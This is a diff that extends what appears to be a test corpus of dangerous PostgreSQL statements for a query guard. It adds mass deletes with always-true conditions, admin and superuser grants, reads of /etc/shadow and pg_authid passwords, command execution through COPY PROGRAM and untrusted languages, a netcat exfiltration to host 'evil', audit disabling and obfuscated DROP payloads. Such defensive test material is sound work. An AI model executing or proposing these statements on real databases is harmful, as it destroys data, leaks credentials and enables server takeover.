@@ -773,3 +773,337 @@ DROP USER MAPPING FOR x SERVER s
 DROP ACCESS METHOD m
 --
 DROP TEXT SEARCH CONFIGURATION c
+--
+LOCK TABLE orders
+--
+LOCK TABLE orders IN ACCESS EXCLUSIVE MODE
+--
+BEGIN; LOCK customers IN EXCLUSIVE MODE NOWAIT
+--
+lock/**/only "orders" in access exclusive mode
+--
+DO $$ BEGIN LOCK TABLE orders IN ACCESS EXCLUSIVE MODE; PERFORM pg_sleep(600); END $$
+--
+CHECKPOINT
+--
+BEGIN; UPDATE orders SET total = 0 WHERE id = 7; PREPARE TRANSACTION 'x1'
+--
+COMMIT PREPARED 'x1'
+--
+ROLLBACK PREPARED 'x1'
+--
+SELECT lo_unlink(oid) FROM pg_largeobject_metadata
+--
+SELECT lo_unlink(l.loid) FROM (SELECT DISTINCT loid FROM pg_largeobject) l
+--
+SELECT lo_unlink(d.body) FROM documents d
+--
+SELECT setval(c.oid, 1) FROM pg_class c WHERE c.relkind = 'S'
+--
+SELECT setval(quote_ident(schemaname) || '.' || quote_ident(sequencename), 1, false) FROM pg_sequences
+--
+SELECT setval(pg_get_serial_sequence(table_name, 'id'), 1) FROM information_schema.tables
+--
+DO $$ DECLARE c CURSOR FOR SELECT * FROM orders; BEGIN FOR r IN c LOOP DELETE FROM orders WHERE CURRENT OF c; END LOOP; END $$
+--
+DO $$ DECLARE c CURSOR FOR SELECT * FROM customers FOR UPDATE; x record; BEGIN OPEN c; LOOP FETCH c INTO x; EXIT WHEN NOT FOUND; UPDATE customers SET email = NULL WHERE CURRENT OF c; END LOOP; END $$
+--
+DO $$ DECLARE r record; BEGIN FOR r IN SELECT id FROM orders LOOP DELETE FROM orders WHERE id = r.id; END LOOP; END $$
+--
+DO $$ DECLARE k int; BEGIN FOR k IN SELECT id FROM customers LOOP DELETE FROM customers WHERE id = k; END LOOP; END $$
+--
+DO $$ BEGIN LOOP DELETE FROM orders WHERE id IN (SELECT id FROM orders LIMIT 1000); EXIT WHEN NOT FOUND; COMMIT; END LOOP; END $$
+--
+DO $$ DECLARE i int; BEGIN FOR i IN 1..1000000 LOOP DELETE FROM orders WHERE id = i; END LOOP; END $$
+--
+DO $$ DECLARE ids int[]; BEGIN SELECT array_agg(id) INTO ids FROM orders; DELETE FROM orders WHERE id = ANY(ids); END $$
+--
+DELETE FROM orders o USING LATERAL (SELECT o.id) x WHERE o.id = x.id
+--
+DELETE FROM orders USING orders o2, LATERAL (SELECT o2.id) x WHERE orders.id = x.id
+--
+DELETE FROM orders o USING LATERAL (VALUES (o.id)) x(id) WHERE o.id = x.id
+--
+DELETE FROM orders o USING orders b, LATERAL unnest(ARRAY[b.id]) x(id) WHERE o.id = x.id
+--
+DELETE FROM orders o USING orders b CROSS JOIN LATERAL jsonb_to_record(to_jsonb(b)) AS j(id int) WHERE o.id = j.id
+--
+UPDATE orders o SET total = 0 FROM LATERAL (SELECT o.id AS k) s WHERE s.k = o.id
+--
+UPDATE orders o SET total = 0 FROM orders p, LATERAL (SELECT p.id AS k OFFSET 0) s WHERE s.k = o.id
+--
+DELETE FROM orders WHERE id IN (SELECT id FROM orders)
+--
+DELETE FROM orders WHERE id = ANY(ARRAY(SELECT id FROM orders))
+--
+DELETE FROM orders WHERE EXISTS (SELECT 1 FROM orders o WHERE o.id = orders.id)
+--
+DELETE FROM orders WHERE id IN (WITH a AS (SELECT id FROM orders) SELECT id FROM a)
+--
+DELETE FROM orders WHERE id IN (SELECT id FROM orders UNION SELECT 7)
+--
+DELETE FROM orders WHERE id NOT IN (-1)
+--
+DELETE FROM orders WHERE id NOT IN (SELECT NULL::int WHERE false)
+--
+DELETE FROM orders WHERE length(status) >= 0
+--
+DELETE FROM orders WHERE coalesce(status, '') = coalesce(status, '')
+--
+DELETE FROM orders WHERE (id, status) IS NOT DISTINCT FROM (id, status)
+--
+DELETE FROM orders WHERE CASE WHEN id > 0 THEN true ELSE true END
+--
+DELETE FROM orders WHERE status LIKE '%'
+--
+DELETE FROM orders WHERE status ~ ''
+--
+DELETE FROM orders WHERE status SIMILAR TO '%'
+--
+DELETE FROM orders WHERE id BETWEEN -2147483648 AND 2147483647
+--
+DELETE FROM orders WHERE created_at <= now()
+--
+DELETE FROM orders WHERE created_at > 'epoch'
+--
+DELETE FROM orders WHERE id % 2 IN (0, 1)
+--
+DELETE FROM orders WHERE status = 'a' OR status <> 'a'
+--
+DELETE FROM orders WHERE NOT (status = 'x' AND status <> 'x')
+--
+DELETE FROM orders WHERE id IS NOT NULL
+--
+DELETE FROM orders WHERE ctid IS NOT NULL
+--
+DELETE FROM orders WHERE orders IS NOT NULL
+--
+DELETE FROM orders WHERE xmin::text <> ''
+--
+DELETE FROM orders WHERE (SELECT true)
+--
+DELETE FROM orders WHERE (SELECT count(*) FROM orders) > 0
+--
+DELETE FROM orders WHERE random() < 2
+--
+DELETE FROM orders WHERE 'x' = 'x' AND NOT false
+--
+DELETE FROM orders WHERE pg_backend_pid() > 0
+--
+DELETE FROM orders WHERE id = id + 0
+--
+DELETE FROM orders WHERE id - id = 0
+--
+DELETE FROM orders WHERE greatest(id, 0) = greatest(0, id)
+--
+DELETE FROM orders WHERE nullif(id, id) IS NULL
+--
+DELETE FROM orders WHERE '{}'::jsonb <@ to_jsonb(orders)
+--
+UPDATE users SET role = 'admin'
+--
+UPDATE users SET role = 'admin' WHERE U&'\0031' = '1'
+--
+UPDATE users SET role = 'admin' WHERE $t$a$t$ = 'a'
+--
+uPdAtE/*x*/users/**/sEt role=$$admin$$ where/**/1=1--
+--
+WITH x AS (UPDATE users SET role = 'admin' RETURNING id) SELECT count(*) FROM x
+--
+WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r
+--
+WITH d AS (DELETE FROM audit_log RETURNING *) INSERT INTO audit_archive SELECT * FROM d
+--
+EXPLAIN ANALYZE UPDATE orders SET total = total * 2
+--
+EXPLAIN (ANALYZE, BUFFERS, FORMAT JSON) WITH d AS (DELETE FROM orders RETURNING 1) SELECT * FROM d
+--
+EXPLAIN (ANALYZE true) EXECUTE p
+--
+PREPARE p AS DELETE FROM orders; EXPLAIN ANALYZE EXECUTE p
+--
+SELECT count(*) FROM generate_series(1, 1000000) a, generate_series(1, 1000000) b
+--
+SELECT sum(a.x * b.x) FROM generate_series(1, 50000) a(x) CROSS JOIN generate_series(1, 50000) b(x)
+--
+SELECT 1 FROM generate_series(1,1e9)
+--
+INSERT INTO orders(total) SELECT 1 FROM generate_series(1, 100000) a CROSS JOIN LATERAL generate_series(1, 100000) b
+--
+SELECT * FROM generate_series('1000-01-01'::timestamp, '3000-01-01', '1 second')
+--
+SELECT count(*) FROM information_schema.columns a, information_schema.columns b, information_schema.columns c
+--
+SELECT max(a.id) FROM orders a, orders b, orders c, orders d
+--
+SELECT count(*) FROM orders a CROSS JOIN orders b CROSS JOIN orders c
+--
+SELECT pg_sleep(86400) FROM orders
+--
+SELECT pg_notify('leak', row_to_json(c)::text) FROM customers c
+--
+SELECT count(pg_notify('q', email)) FROM customers
+--
+ALTER SYSTEM SET wal_level = 'minimal'
+--
+SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()
+--
+SELECT pg_cancel_backend(pid) FROM pg_stat_activity
+--
+SELECT pg_wal_replay_pause()
+--
+SELECT pg_drop_replication_slot(slot_name) FROM pg_replication_slots
+--
+SELECT pg_create_physical_replication_slot('s')
+--
+SELECT pg_stat_reset()
+--
+SET SESSION AUTHORIZATION 'postgres'
+--
+SET LOCAL ROLE admin
+--
+SELECT set_config('ro' || 'le', 'postgres', true)
+--
+SELECT set_config(chr(114) || 'ole', 'postgres', true)
+--
+UPDATE pg_settings SET setting = 'replica' WHERE name = 'session_replication_role'
+--
+SELECT pg_read_binary_file('/etc/shadow')
+--
+SELECT encode(pg_read_binary_file('pg_hba.conf'), 'hex')
+--
+SELECT pg_catalog."pg_read_file"(convert_from('\x2f6574632f706173737764', 'UTF8'))
+--
+SELECT * FROM pg_ls_waldir()
+--
+SELECT lo_export(16400, '/tmp/a')
+--
+SELECT lo_import('/etc/passwd', 99)
+--
+COPY customers TO PROGRAM 'nc evil 1'
+--
+COPY (SELECT * FROM customers) TO '/var/tmp/c.csv' CSV
+--
+COPY x FROM PROGRAM $$bash -c 'id'$$
+--
+CREATE EXTENSION plpython3u
+--
+CREATE EXTENSION IF NOT EXISTS dblink
+--
+CREATE FUNCTION f() RETURNS text LANGUAGE plpython3u AS $$ import os; return os.popen('id').read() $$
+--
+CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE c
+--
+DO LANGUAGE plperlu $$ system('id') $$
+--
+ALTER USER postgres PASSWORD 'x'
+--
+CREATE ROLE r LOGIN SUPERUSER
+--
+GRANT ALL ON ALL TABLES IN SCHEMA public TO public
+--
+REVOKE SELECT ON orders FROM app
+--
+GRANT pg_execute_server_program TO app
+--
+ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO public
+--
+DROP OWNED BY app CASCADE
+--
+REASSIGN OWNED BY app TO evil
+--
+DROP TABLE IF EXISTS orders CASCADE
+--
+DROP SCHEMA public CASCADE
+--
+TRUNCATE orders, customers RESTART IDENTITY CASCADE
+--
+ALTER TABLE orders DISABLE TRIGGER ALL
+--
+ALTER TABLE orders SET UNLOGGED
+--
+DROP INDEX CONCURRENTLY orders_pkey
+--
+DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE orders'; END $$
+--
+DO $$ BEGIN EXECUTE format('TRUNCATE %I', 'orders'); END $$
+--
+DO $$ DECLARE q text := 'delete from '; BEGIN q := q || 'orders'; EXECUTE q; END $$
+--
+DO $$ BEGIN EXECUTE convert_from(decode('ZHJvcCB0YWJsZSBvcmRlcnM=', 'base64'), 'UTF8'); END $$
+--
+DO $x$ BEGIN PERFORM query_to_xml('delete from orders returning 1', true, false, ''); END $x$
+--
+SELECT query_to_xml('drop table orders', true, true, '')
+--
+SELECT * FROM dblink('dbname=shop', 'delete from orders') AS t(a text)
+--
+SELECT database_to_xml(true, true, '')
+--
+SELECT rolname, rolpassword FROM pg_authid
+--
+SELECT usename, passwd FROM pg_catalog.pg_shadow
+--
+TABLE pg_user_mappings
+--
+UPDATE pg_catalog.pg_proc SET prosecdef = true WHERE proname = 'f'
+--
+DELETE FROM pg_class WHERE relname = 'orders'
+--
+INSERT INTO pg_catalog.pg_auth_members SELECT 10, oid, 10, true FROM pg_roles WHERE rolname = 'app'
+--
+MERGE INTO orders o USING orders s ON o.id = s.id WHEN MATCHED THEN DELETE
+--
+MERGE INTO orders o USING (SELECT 1) s ON true WHEN MATCHED THEN UPDATE SET total = 0
+--
+INSERT INTO orders SELECT * FROM orders ON CONFLICT (id) DO UPDATE SET total = 0
+--
+VACUUM FULL orders
+--
+CLUSTER orders USING orders_pkey
+--
+REINDEX SYSTEM shop
+--
+SELECT * INTO customers_copy FROM customers
+--
+CREATE TABLE leak AS TABLE customers
+--
+CREATE RULE r AS ON SELECT TO customers DO INSTEAD NOTHING
+--
+CREATE TRIGGER t BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()
+--
+CREATE SUBSCRIPTION s CONNECTION 'host=evil dbname=x' PUBLICATION p
+--
+CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')
+--
+LOAD '$libdir/evil'
+--
+SECURITY LABEL ON TABLE orders IS 'x'
+--
+SELECT pg_advisory_lock(id) FROM orders
+--
+DELETE FROM ONLY public.orders AS o WHERE o.* IS NOT DISTINCT FROM o.*
+--
+DELETE FROM orders WHERE id > ALL (SELECT -1)
+--
+DELETE FROM orders WHERE id >= (SELECT min(id) FROM orders)
+--
+DELETE FROM orders WHERE id <= (SELECT max(id) FROM orders)
+--
+DELETE FROM orders WHERE id IN (SELECT generate_series(1, 100000000))
+--
+BEGIN; DELETE FROM orders; ROLLBACK
+--
+SELECT 1; ; TRUNCATE orders; --
+--
+CREATE FUNCTION pg_temp.f() RETURNS void LANGUAGE sql AS $$ DELETE FROM orders $$; SELECT pg_temp.f()
+--
+COMMENT ON TABLE orders IS 'pwned'
+--
+SELECT pg_logical_emit_message(true, 'x', 'y')
+--
+SET pgaudit.log = 'none'
+--
+ALTER DATABASE shop SET default_transaction_read_only = on
+--
+SELECT currval('x'), pg_rotate_logfile()
